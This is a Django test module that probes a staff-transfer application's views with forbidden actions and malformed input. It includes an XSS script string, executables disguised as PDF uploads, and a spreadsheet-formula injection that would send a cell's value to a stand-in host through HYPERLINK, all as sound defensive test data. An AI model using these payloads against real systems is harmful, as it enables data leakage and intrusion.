"""A hostile tester's pass over every transfer view: each role tries what it must not do
(guessing ids, acting out of turn, other people's notices, late objections, disguised or oversized
files, junk ids and query parameters, double submits, acting on finished or flagged proposals).
Every attempt must end in a clean refusal (302 with a message, 400/403/404/405, or a form error),
never a 500, and never a partial write. Requests alone (junk ids and parameters, posts out of place)
are in `test_serangan_permintaan.py`, on one world built for that module."""

from datetime import date, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from mutasi.models import (
    Keberatan,
    RiwayatStatusUsulan,
    SuratKeputusan,
    UsulanMutasi,
)
from mutasi.selectors import kotak_masuk
from mutasi.services.alur import TRANSISI, usulan_transisi
from mutasi.services.sk import sk_tandatangani
from mutasi.services.sk_konsep import sk_siapkan_pembatalan
from mutasi.tests.helpers import TMT
from mutasi.tests.serangan import BESAR, ELF, EXE, PDF, PERAN, PNG, Dunia, S, bersih, jejak, pesan_dari, sasaran_bangun
from pegawai.tests.factories import pegawai_di

pytestmark = pytest.mark.django_db


@pytest.fixture
def w(dunia):
    return Dunia(dunia)


@pytest.fixture
def sasaran(w):
    return sasaran_bangun(w)


# --- 2. Other people's requests and proposals not yet decided -----------------------------------------


def test_pegawai_tidak_bisa_membuka_permohonan_orang_lain(w, sasaran):
    c = w.klien["pegawai_lain"]  # the request belongs to someone else in the same OPD
    p = sasaran["permohonan"]
    assert c.get(reverse("mutasi:permohonan_detail", args=[p.pk])).status_code == 404
    assert c.get(reverse("mutasi:permohonan_lampiran", args=[sasaran["lampiran_permohonan"].pk])).status_code == 404
    assert c.post(reverse("mutasi:permohonan_tarik", args=[p.pk])).status_code == 404
    p.refresh_from_db()
    assert p.status == "DIAJUKAN"


def test_kepala_tidak_bisa_memakai_permohonan_pegawai_untuk_mengisi_form(w, sasaran):
    p = sasaran["permohonan"]
    for peran in ("kepala_asal", "kepala_lain"):
        r = w.klien[peran].get(reverse("mutasi:baru") + f"?permohonan={p.pk}")
        assert r.status_code == 404
        assert p.alasan.encode() not in r.content
    r = w.klien["hr"].get(reverse("mutasi:baru") + f"?permohonan={p.pk}")
    assert r.status_code == 200 and p.alasan in r.content.decode()


def test_pegawai_belum_diputuskan_tidak_melihat_usulannya(w, sasaran):
    from pegawai.tests.factories import UserFactory

    u = sasaran["diajukan"]  # still waiting for the sending head
    p = u.pegawai
    p.akun = UserFactory(nip=p.nip)
    p.save(update_fields=["akun"])
    c = Client(raise_request_exception=False)
    c.force_login(p.akun)
    for nama in ("mutasi:detail", "mutasi:pemberitahuan", "mutasi:konfirmasi", "mutasi:keberatan_ajukan"):
        assert c.get(reverse(nama, args=[u.pk])).status_code in (404, 405)
    assert c.post(reverse("mutasi:konfirmasi", args=[u.pk])).status_code == 404
    assert u.pk not in [x.pk for x in c.get(reverse("mutasi:saya")).context["daftar"]]


# --- 3. Acting out of turn -------------------------------------------------------------------------------


LANGKAH = [
    (S.DIAJUKAN, "lepas", "kepala_asal"),
    (S.DILEPAS, "terima", "kepala_tujuan"),
    (S.DITERIMA, "verifikasi", "hr"),
    (S.DIVERIFIKASI, "putuskan", "ppk"),
]


@pytest.mark.parametrize(("status", "aksi", "pelaku"), LANGKAH)
@pytest.mark.parametrize("peran", PERAN)
def test_aksi_di_luar_giliran_lewat_view(w, status, aksi, pelaku, peran):
    u = w.d.sampai(status)
    c = w.klien[peran]
    sebelum = jejak()
    r = c.post(reverse("mutasi:aksi", args=[u.pk, aksi]), {"catatan": ""})
    bersih(r, 302, 404)
    if peran == pelaku:
        u.refresh_from_db()
        assert u.status == TRANSISI[aksi].ke
        return
    assert jejak() == sebelum
    if r.status_code == 302 and peran != "anon":
        isi = pesan_dari(r)
        assert isi and "berhasil" not in " ".join(isi)
    # every other action is refused too, except the ones that role really has at this step
    for lain in ("ajukan", "lepas", "terima", "verifikasi", "putuskan"):
        if lain == aksi:
            continue
        sebelum = jejak()
        bersih(c.post(reverse("mutasi:aksi", args=[u.pk, lain])), 302, 404)
        assert jejak() == sebelum


def test_aksi_internal_tidak_bisa_dipanggil_lewat_url(w):
    u = w.d.sampai(S.DIPUTUSKAN)
    sebelum = jejak()
    for aksi in ("terbitkan_sk", "laksanakan", "revisi_tujuan"):
        assert w.klien["hr"].post(reverse("mutasi:aksi", args=[u.pk, aksi]), {"catatan": "x"}).status_code == 404
    assert jejak() == sebelum


# --- 4. Objections and notices: late, twice, cancelled ------------------------------------------------


def test_keberatan_lewat_batas_waktu_lewat_view(w, settings):
    settings.KEBERATAN_BATAS_HARI = 14
    d = w.d
    u = d.sampai(S.SK_TERBIT)
    # the window runs from the day the notice was given: the employee acknowledged it 15 days ago
    UsulanMutasi.objects.filter(pk=u.pk).update(pemberitahuan_dikonfirmasi=timezone.now() - timedelta(days=15))
    sebelum = jejak()
    r = w.klien["pegawai"].post(reverse("mutasi:keberatan_ajukan", args=[u.pk]), {"isi": "Terlambat tapi penting."})
    assert r.status_code == 302 and any("lewat" in m for m in pesan_dari(r))
    assert jejak() == sebelum
    saya = w.klien["pegawai"].get(reverse("mutasi:saya")).content.decode()
    assert reverse("mutasi:keberatan_ajukan", args=[u.pk]) not in saya  # no form offered either


def test_keberatan_kedua_dan_terlalu_panjang_ditolak(w, sasaran):
    u = sasaran["terbit"]  # already has an unanswered objection
    sebelum = jejak()
    r = w.klien["pegawai"].post(reverse("mutasi:keberatan_ajukan", args=[u.pk]), {"isi": "Keberatan kedua saya."})
    assert any("menunggu jawaban" in m for m in pesan_dari(r))
    assert jejak() == sebelum
    Keberatan.objects.all().update(status="DIJAWAB", jawaban="Tetap.", keputusan="TETAP", dijawab_pada=timezone.now())
    sebelum = jejak()
    r = w.klien["pegawai"].post(reverse("mutasi:keberatan_ajukan", args=[u.pk]), {"isi": "x" * 6000})
    assert any("terlalu panjang" in m for m in pesan_dari(r))
    assert jejak() == sebelum


def test_konfirmasi_pemberitahuan_yang_dibatalkan_ditolak(w):
    d = w.d
    u = d.sampai(S.SK_TERBIT)
    # a decree in force is cancelled by the revoking decree the PPK signs
    konsep = sk_siapkan_pembatalan(oleh=d.org.hr.akun, usulan=u, alasan="Formasi tujuan dibekukan.")
    sk_tandatangani(oleh=d.org.ppk.akun, sk=konsep)
    sebelum = jejak()
    r = w.klien["pegawai"].post(reverse("mutasi:konfirmasi", args=[u.pk]))
    assert r.status_code == 302 and pesan_dari(r)
    assert jejak() == sebelum
    assert w.klien["pegawai"].get(reverse("mutasi:pemberitahuan", args=[u.pk])).status_code == 404


def test_konfirmasi_dua_kali_sekali_tercatat(w, sasaran):
    u = sasaran["terbit"]
    c = w.klien["pegawai"]
    c.post(reverse("mutasi:konfirmasi", args=[u.pk]))
    u.refresh_from_db()
    pertama = u.pemberitahuan_dikonfirmasi
    awal = jejak()
    r = c.post(reverse("mutasi:konfirmasi", args=[u.pk]))
    assert any("sudah" in m for m in pesan_dari(r))
    u.refresh_from_db()
    assert u.pemberitahuan_dikonfirmasi == pertama and jejak() == awal


# --- 5. Files: disguised, oversized, empty, missing ----------------------------------------------------


@pytest.mark.parametrize(
    ("nama", "isi", "pesan"),
    [
        ("sk_terakhir.pdf", EXE, "bukan PDF"),
        ("sk_terakhir.pdf", ELF, "bukan PDF"),
        ("skrip.pdf", b"<script>alert(1)</script>", "bukan PDF"),
        ("laporan.pdf.exe", PDF, "tidak sesuai"),
        ("foto.pdf", PNG, "tidak sesuai"),
        ("tanpa_ekstensi", PDF, "tidak sesuai"),
    ],
)
def test_lampiran_menyamar_ditolak(w, sasaran, nama, isi, pesan, settings):
    u = sasaran["diajukan"]
    sebelum = jejak()
    berkas = SimpleUploadedFile(nama, isi, content_type="application/pdf")
    r = w.klien["hr"].post(reverse("mutasi:lampiran_tambah", args=[u.pk]), {"jenis": "LAINNYA", "berkas": berkas})
    assert r.status_code == 302 and any(pesan in m for m in pesan_dari(r))
    assert jejak() == sebelum
    folder = settings.MEDIA_ROOT / "mutasi" / "lampiran"
    tersimpan = [p.relative_to(settings.MEDIA_ROOT).as_posix() for p in folder.rglob("*") if p.is_file()]
    assert tersimpan == [sasaran["lampiran"].berkas.name]  # only the fixture's own attachment (a random name)


def test_lampiran_terlalu_besar_dan_kosong_ditolak(w, sasaran, settings):
    settings.UPLOAD_MAX_MB = 1
    u = sasaran["diajukan"]
    sebelum = jejak()
    besar = SimpleUploadedFile("besar.pdf", PDF + b"0" * (1024 * 1024), content_type="application/pdf")
    r = w.klien["hr"].post(reverse("mutasi:lampiran_tambah", args=[u.pk]), {"jenis": "LAINNYA", "berkas": besar})
    assert any("terlalu besar" in m for m in pesan_dari(r))
    kosong = SimpleUploadedFile("kosong.pdf", b"", content_type="application/pdf")
    r = w.klien["hr"].post(reverse("mutasi:lampiran_tambah", args=[u.pk]), {"jenis": "LAINNYA", "berkas": kosong})
    assert r.status_code == 302 and pesan_dari(r)
    r = w.klien["hr"].post(
        reverse("mutasi:lampiran_tambah", args=[u.pk]),
        {"jenis": "BUKAN_JENIS", "berkas": SimpleUploadedFile("a.pdf", PDF)},
    )
    assert r.status_code == 302 and pesan_dari(r)
    assert jejak() == sebelum


def test_lampiran_oleh_yang_tidak_berhak_atau_usulan_selesai_ditolak(w, sasaran):
    sebelum = jejak()
    berkas = SimpleUploadedFile("a.pdf", PDF, content_type="application/pdf")
    # the receiving head may see the proposal, but has no step on it now
    r = w.klien["kepala_tujuan"].post(
        reverse("mutasi:lampiran_tambah", args=[sasaran["diajukan"].pk]), {"jenis": "LAINNYA", "berkas": berkas}
    )
    assert r.status_code == 302 and any("tidak dapat" in m for m in pesan_dari(r))
    berkas = SimpleUploadedFile("a.pdf", PDF, content_type="application/pdf")
    r = w.klien["hr"].post(
        reverse("mutasi:lampiran_tambah", args=[sasaran["batal"].pk]), {"jenis": "LAINNYA", "berkas": berkas}
    )
    assert r.status_code == 302 and pesan_dari(r)
    r = w.klien["hr"].post(reverse("mutasi:lampiran_hapus", args=[sasaran["lampiran"].pk]))
    assert any("draf" in m for m in pesan_dari(r))  # the proposal is past its draft
    assert jejak() == sebelum


def test_berkas_hilang_dari_penyimpanan_404(w, sasaran):
    sasaran["lampiran"].berkas.storage.delete(sasaran["lampiran"].berkas.name)
    assert w.klien["hr"].get(reverse("mutasi:lampiran_unduh", args=[sasaran["lampiran"].pk])).status_code == 404
    lp = sasaran["lampiran_permohonan"]
    lp.berkas.storage.delete(lp.berkas.name)
    assert w.klien["hr"].get(reverse("mutasi:permohonan_lampiran", args=[lp.pk])).status_code == 404


@pytest.mark.parametrize(("nama", "isi"), [("surat.pdf", EXE), ("surat.pdf.exe", PDF)])
def test_permohonan_dengan_berkas_menyamar_tidak_tersimpan_sebagian(w, nama, isi):
    c = Client(raise_request_exception=False)
    p = pegawai_di(w.d.org.subunit, akun=True)
    c.force_login(p.akun)
    sebelum = jejak()
    r = c.post(
        reverse("mutasi:permohonan_baru"),
        {
            "jenis": "DALAM",
            "alasan": "Ingin dekat keluarga yang sedang sakit.",
            "berkas": SimpleUploadedFile(nama, isi),
        },
    )
    assert r.status_code == 200 and r.context["form"].non_field_errors()
    assert "dekat keluarga yang sedang sakit" in r.content.decode()  # what was typed is kept
    assert jejak() == sebelum


# --- 6. Junk query parameters in forms (the lists: test_serangan_permintaan.py) -----------------------


def test_filter_salah_tidak_membuang_filter_lain(w, sasaran):
    r = w.klien["hr"].get(reverse("mutasi:daftar") + "?status=nonsense&q=" + sasaran["terbit"].pegawai.nama)
    assert r.status_code == 200
    daftar = list(r.context["usulan_list"])
    assert daftar and all(u.pegawai_id == sasaran["terbit"].pegawai_id for u in daftar)
    assert r.context["form"].errors.get("status")


@pytest.mark.parametrize(
    "query",
    [
        f"pegawai={BESAR}&unit={BESAR}&jabatan={BESAR}",
        f"permohonan={BESAR}",
        "pegawai=abc&unit=-1&jabatan=1e9&dasar=__class__",
        "nip=" + "9" * 200,
        "nip=<script>",
        "pegawai=%C2%B2&unit=%C2%B2&jabatan=%C2%B2&permohonan=%C2%B2&nip=%C2%B2",
    ],
)
@pytest.mark.parametrize("peran", ["hr", "kepala_asal"])
def test_parameter_sampah_di_form_baru(w, query, peran):
    r = w.klien[peran].get(reverse("mutasi:baru") + "?" + query)
    assert r.status_code in (200, 404)
    assert b"<script>" not in r.content


def test_batch_aksi_dengan_id_sampah(w):
    from mutasi.services.usulan import batch_baca_daftar, batch_buat

    d = w.d
    a = pegawai_di(d.org.subunit, mulai=date(2018, 1, 1))
    b = pegawai_di(d.org.unit, mulai=date(2018, 1, 1))
    batch = batch_buat(
        oleh=d.org.hr.akun,
        nama="Rotasi",
        dasar="ROTASI",
        tmt_usulan=TMT,
        keterangan="",
        baris=batch_baca_daftar(f"{a.nip}\n{b.nip}", rotasi=True),
        alasan="Rotasi berkala.",
        manfaat_organisasi="Layanan merata.",
        manfaat_pegawai="Pengalaman baru.",
        alasan_tanpa_kekurangan="Rotasi tanpa menambah pegawai.",
    )
    lain = w.d.sampai(S.DIAJUKAN, pegawai=pegawai_di(d.org.subunit, mulai=date(2018, 1, 1)))  # not in the batch
    sebelum = jejak()
    for data in [
        {"aksi": "ajukan", "usulan": ["abc", str(BESAR), "-1", "9" * 40, "²", str(lain.pk)]},
        {"aksi": "terbitkan_sk", "usulan": [str(x.pk) for x in batch.usulan.all()]},
        {"aksi": "__class__", "usulan": []},
        {"aksi": "lepas", "usulan": [str(lain.pk)]},  # a proposal of another batch: ignored
    ]:
        r = w.klien["hr"].post(reverse("mutasi:batch_aksi", args=[batch.pk]), data)
        assert r.status_code == 302 and pesan_dari(r)
    assert jejak() == sebelum


# --- 7. Double submits ------------------------------------------------------------------------------------


def test_aksi_dua_kali_hanya_sekali_berlaku(w):
    u = w.d.sampai(S.DIAJUKAN)
    c = w.klien["kepala_asal"]
    c.post(reverse("mutasi:aksi", args=[u.pk, "lepas"]))
    awal = jejak()
    r = c.post(reverse("mutasi:aksi", args=[u.pk, "lepas"]))
    assert r.status_code == 302 and any("tidak dapat dilakukan" in m for m in pesan_dari(r))
    assert jejak() == awal
    assert RiwayatStatusUsulan.objects.filter(usulan=u, aksi="lepas").count() == 1


def test_sk_dua_kali_hanya_satu_konsep(w):
    u = w.d.sampai(S.DIPUTUSKAN)
    data = {"tmt": TMT.isoformat()}
    w.klien["hr"].post(reverse("mutasi:sk_terbitkan", args=[u.pk]), data)
    awal = jejak()
    r = w.klien["hr"].post(reverse("mutasi:sk_terbitkan", args=[u.pk]), data)
    assert r.status_code == 302 and pesan_dari(r)
    assert jejak() == awal and SuratKeputusan.objects.count() == 1


def test_usulan_baru_dua_kali_hanya_satu_draf(w):
    d = w.d
    p = pegawai_di(d.org.subunit, mulai=date(2018, 1, 1))
    data = {
        "pegawai": p.pk,
        "jenis": "DALAM",
        "dasar": "ROTASI",
        "tujuan_unit": d.tujuan.pk,
        "tujuan_jabatan": d.jabatan_tujuan.pk,
        "tmt_usulan": TMT.isoformat(),
        "alasan": "Penyegaran.",
        "manfaat_organisasi": "Layanan lebih kuat.",
        "manfaat_pegawai": "Pengalaman baru.",
        "alasan_tanpa_kekurangan": "Layanan baru.",
    }
    r = w.klien["hr"].post(reverse("mutasi:baru"), data)
    assert r.status_code == 302
    awal = jejak()
    r = w.klien["hr"].post(reverse("mutasi:baru"), data)
    assert r.status_code == 200 and any("sudah ada" in m for m in pesan_dari(r))
    assert r.context["form"]["alasan"].value() == "Penyegaran."  # nothing typed is lost
    assert jejak() == awal and UsulanMutasi.objects.filter(pegawai=p).count() == 1


def test_permohonan_dua_kali_hanya_satu(w):
    c = Client(raise_request_exception=False)
    p = pegawai_di(w.d.org.subunit, akun=True)
    c.force_login(p.akun)
    data = {"jenis": "DALAM", "alasan": "Ingin dekat keluarga yang sedang sakit."}
    assert c.post(reverse("mutasi:permohonan_baru"), data).status_code == 302
    awal = jejak()
    r = c.post(reverse("mutasi:permohonan_baru"), data)
    assert r.status_code == 200 and r.context["form"].non_field_errors()
    assert jejak() == awal


def test_jawab_keberatan_dua_kali(w, sasaran):
    k = sasaran["keberatan"]
    url = reverse("mutasi:keberatan_jawab", args=[k.pk])
    w.klien["hr"].post(url, {"keputusan": "TETAP", "jawaban": "Mutasi tetap dilaksanakan."})
    awal = jejak()
    r = w.klien["hr"].post(url, {"keputusan": "BATAL", "jawaban": "Berubah pikiran: dibatalkan."})
    assert r.status_code == 200 and "sudah dijawab" in r.content.decode()
    assert jejak() == awal
    sasaran["terbit"].refresh_from_db()
    assert sasaran["terbit"].status == S.SK_TERBIT


def test_jawab_keberatan_isian_sampah(w, sasaran):
    k = sasaran["keberatan"]
    url = reverse("mutasi:keberatan_jawab", args=[k.pk])
    awal = jejak()
    for data in [
        {"keputusan": "HAPUS", "jawaban": "Jawaban yang cukup panjang."},
        {"keputusan": "REVISI", "jawaban": "Direvisi.", "tujuan_unit": str(BESAR)},
        {"keputusan": "REVISI", "jawaban": "Direvisi tanpa isi perubahan."},
        {"keputusan": "REVISI", "jawaban": "Direvisi ke tahun jauh.", "tmt_baru": "9999-12-31"},
        {"keputusan": "TETAP", "jawaban": "pendek"},
    ]:
        r = w.klien["hr"].post(url, data)
        assert r.status_code == 200 and (r.context["form"].errors), data
    assert jejak() == awal


# --- 8. Finished, withdrawn and flagged proposals ------------------------------------------------------------


@pytest.mark.parametrize("akhir", ["tarik", "batalkan", "tolak"])
def test_usulan_selesai_tidak_bisa_disentuh(w, akhir):
    d, o = w.d, w.d.org
    u = d.sampai(S.DIAJUKAN)
    pelaku = {"tarik": o.hr, "batalkan": o.hr, "tolak": o.kepala}[akhir]
    usulan_transisi(usulan=u, aksi=akhir, oleh=pelaku.akun, catatan="Selesai.")
    UsulanMutasi.objects.filter(pk=u.pk).update(perlu_tinjauan=True, tinjauan_alasan="contoh")
    sebelum = jejak()
    for peran in ("hr", "kepala_asal", "kepala_tujuan", "ppk"):
        c = w.klien[peran]
        for aksi in TRANSISI:
            bersih(c.post(reverse("mutasi:aksi", args=[u.pk, aksi]), {"catatan": "Hidupkan lagi."}), 302, 404)
        bersih(c.post(reverse("mutasi:ubah", args=[u.pk]), {"alasan": "ubah"}), 302, 403, 404)
        bersih(c.post(reverse("mutasi:pengecualian", args=[u.pk]), {"alasan": "x" * 40}), 302, 404)
        bersih(c.post(reverse("mutasi:tinjau", args=[u.pk]), {"catatan": "Sudah dicek."}), 302, 404)
        bersih(c.post(reverse("mutasi:menteri", args=[u.pk]), {"teks": "B-1/2026"}), 302, 404)
        bersih(c.post(reverse("mutasi:sk_terbitkan", args=[u.pk]), {}), 302, 403, 404)
        bersih(
            c.post(
                reverse("mutasi:lampiran_tambah", args=[u.pk]),
                {"jenis": "LAINNYA", "berkas": SimpleUploadedFile("a.pdf", PDF)},
            ),
            302,
            404,
        )
    assert jejak() == sebelum


def test_usulan_ditandai_tidak_bisa_diputuskan_dan_tidak_bisa_di_sk(w):
    d, o = w.d, w.d.org
    u = d.sampai(S.DIVERIFIKASI)
    UsulanMutasi.objects.filter(pk=u.pk).update(perlu_tinjauan=True, tinjauan_alasan="pegawai pindah jabatan")
    sebelum = jejak()
    r = w.klien["ppk"].post(reverse("mutasi:aksi", args=[u.pk, "putuskan"]))
    assert r.status_code == 302 and any("meninjau" in m for m in pesan_dari(r))
    assert jejak() == sebelum
    # decided before the record changed: the decree waits for HR's review as well
    UsulanMutasi.objects.filter(pk=u.pk).update(perlu_tinjauan=False)
    usulan_transisi(usulan=u, aksi="putuskan", oleh=o.ppk.akun)
    from pegawai.services.pegawai import pegawai_pindah_jabatan

    pegawai_pindah_jabatan(
        oleh=o.hr.akun, pegawai=o.anggota, unit=o.lain, jabatan=d.jabatan_tujuan, tmt=date.today(), keterangan="x"
    )
    w.klien["hr"].get(reverse("mutasi:detail", args=[u.pk]))  # opening the page flags it
    u.refresh_from_db()
    assert u.perlu_tinjauan
    sebelum = jejak()
    r = w.klien["hr"].post(reverse("mutasi:sk_terbitkan", args=[u.pk]), {"tmt": TMT.isoformat()})
    assert r.status_code == 302 and any("meninjau" in m for m in pesan_dari(r))
    assert jejak() == sebelum
    tinjauan = next(rows for k, _j, rows in kotak_masuk(o.hr.akun) if k == "tinjauan")
    assert u.pk in [x.pk for x in tinjauan]  # and HR is told to look at it


def test_pengusul_tidak_bisa_menarik_setelah_diputuskan(w):
    u = w.d.sampai(S.DIPUTUSKAN)
    sebelum = jejak()
    r = w.klien["hr"].post(reverse("mutasi:aksi", args=[u.pk, "tarik"]))
    assert r.status_code == 302 and pesan_dari(r)
    assert jejak() == sebelum


def test_catatan_terlalu_panjang_ditolak(w):
    u = w.d.sampai(S.DIAJUKAN)
    sebelum = jejak()
    r = w.klien["kepala_asal"].post(reverse("mutasi:aksi", args=[u.pk, "tolak"]), {"catatan": "x" * 10_000})
    assert any("terlalu panjang" in m for m in pesan_dari(r))
    assert jejak() == sebelum


@pytest.mark.parametrize(
    ("tmt", "pesan"),
    [
        ((date.today() - timedelta(days=1)).isoformat(), "tidak boleh sebelum tanggal SK"),
        ("1900-01-01", "tidak boleh sebelum tanggal SK"),
        ("9999-12-31", "paling lambat"),
        ("0001-01-01", ""),
        ("2026-13-45", ""),
    ],
)
def test_sk_dengan_tmt_aneh_ditolak_tanpa_konsep(w, tmt, pesan):
    """The decree's date is the PPK's signing day (no field for it); a TMT before it is refused."""
    u = w.d.sampai(S.DIPUTUSKAN)
    data = {"tmt": tmt, "tanggal": "2028-02-29"}  # a posted date is ignored
    sebelum = jejak()
    r = w.klien["hr"].post(reverse("mutasi:sk_terbitkan", args=[u.pk]), data)
    assert r.status_code == 302 and pesan_dari(r)
    assert pesan in " ".join(pesan_dari(r))
    assert jejak() == sebelum


# --- 9. Forms fed junk, edits beyond one's authority, spreadsheet formulas ------------------------------


def test_form_baru_dan_permohonan_dengan_id_raksasa(w):
    d = w.d
    sebelum = jejak()
    r = w.klien["hr"].post(
        reverse("mutasi:baru"),
        {
            "pegawai": str(BESAR),
            "jenis": "DALAM",
            "dasar": "ROTASI",
            "tujuan_unit": str(BESAR),
            "tujuan_jabatan": "abc",
            "tmt_usulan": "2026-02-30",
            "alasan": "x",
            "manfaat_organisasi": "x",
            "manfaat_pegawai": "x",
        },
    )
    assert r.status_code == 200 and r.context["form"].errors
    c = Client(raise_request_exception=False)
    p = pegawai_di(d.org.subunit, akun=True)
    c.force_login(p.akun)
    for pilihan in ([str(BESAR)], ["x"], ["²"], [str(BESAR), str(d.tujuan.pk)]):
        r = c.post(
            reverse("mutasi:permohonan_baru"),
            {"jenis": "DALAM", "alasan": "Ingin dekat keluarga yang sedang sakit.", "unit_pilihan": pilihan},
        )
        assert r.status_code == 200 and r.context["form"].errors.get("unit_pilihan"), pilihan
    r = c.post(reverse("mutasi:permohonan_baru"), {"jenis": "MASUK", "alasan": "Jenis yang tidak ditawarkan."})
    assert r.status_code == 200 and r.context["form"].errors
    assert jejak() == sebelum


def test_kepala_pengusul_tidak_bisa_memindahkan_tujuan_ke_luar_wewenangnya(w):
    d, o = w.d, w.d.org
    # the sending head proposes one of their people ...
    u = d.usulan(oleh=o.kepala, pegawai=pegawai_di(o.subunit, mulai=date(2018, 1, 1)))
    data = {
        "jenis": "DALAM",
        "dasar": "ROTASI",
        "tujuan_unit": w.unit_lain.pk,
        "tujuan_jabatan": d.jabatan_tujuan.pk,
        "tmt_usulan": TMT.isoformat(),
        "alasan": "Penyegaran.",
        "manfaat_organisasi": "x",
        "manfaat_pegawai": "x",
        "alasan_tanpa_kekurangan": "x",
    }
    # ... an unrelated head cannot even open it; the proposer may move the destination anywhere
    # (the person is in their unit), but a head who proposed INTO their unit may not move it away.
    assert w.klien["kepala_lain"].post(reverse("mutasi:ubah", args=[u.pk]), data).status_code == 404
    masuk = d.usulan(oleh=d.kepala_tujuan, pegawai=pegawai_di(o.lain, mulai=date(2018, 1, 1)))
    sebelum = jejak()
    r = w.klien["kepala_tujuan"].post(reverse("mutasi:ubah", args=[masuk.pk]), data)
    assert r.status_code == 200 and any("wewenang" in m for m in pesan_dari(r))
    assert jejak() == sebelum
    r = w.klien["kepala_asal"].post(reverse("mutasi:ubah", args=[u.pk]), data)
    assert r.status_code == 302
    u.refresh_from_db()
    assert u.tujuan_unit == w.unit_lain


def test_unit_tujuan_tidak_aktif_ditolak(w):
    d = w.d
    u = d.usulan(pegawai=pegawai_di(d.org.subunit, mulai=date(2018, 1, 1)))
    type(d.tujuan).objects.filter(pk=d.tujuan.pk).update(aktif=False)
    sebelum = jejak()
    from mutasi.services import AlurError
    from mutasi.services.usulan import usulan_ubah

    with pytest.raises(AlurError, match="tidak aktif"):
        usulan_ubah(oleh=d.org.hr.akun, usulan=u, data={"alasan": "Alasan baru."})
    assert jejak() == sebelum


def test_ekspor_tidak_menjalankan_rumus_dari_isian(w):
    from io import BytesIO

    from openpyxl import load_workbook

    d = w.d
    u = d.usulan(
        pegawai=pegawai_di(d.org.subunit, mulai=date(2018, 1, 1)),
        alasan='=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    )
    r = w.klien["hr"].get(reverse("mutasi:ekspor"))
    ws = load_workbook(BytesIO(b"".join(r.streaming_content))).active
    sel = next(row[14] for row in ws.iter_rows(min_row=2) if row[0].value == u.nomor)
    # a text cell holding exactly what was typed (inti.lembar), never a live formula
    assert sel.data_type == "s" and sel.value == '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
